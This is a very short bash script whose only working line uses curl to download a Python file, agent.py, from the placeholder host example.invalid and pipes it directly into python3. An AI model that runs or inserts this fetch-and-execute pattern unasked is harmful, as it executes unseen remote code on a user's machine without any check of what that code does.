#!/bin/bash
set -e
curl -fsSL https://example.invalid/agent.py | python3 -
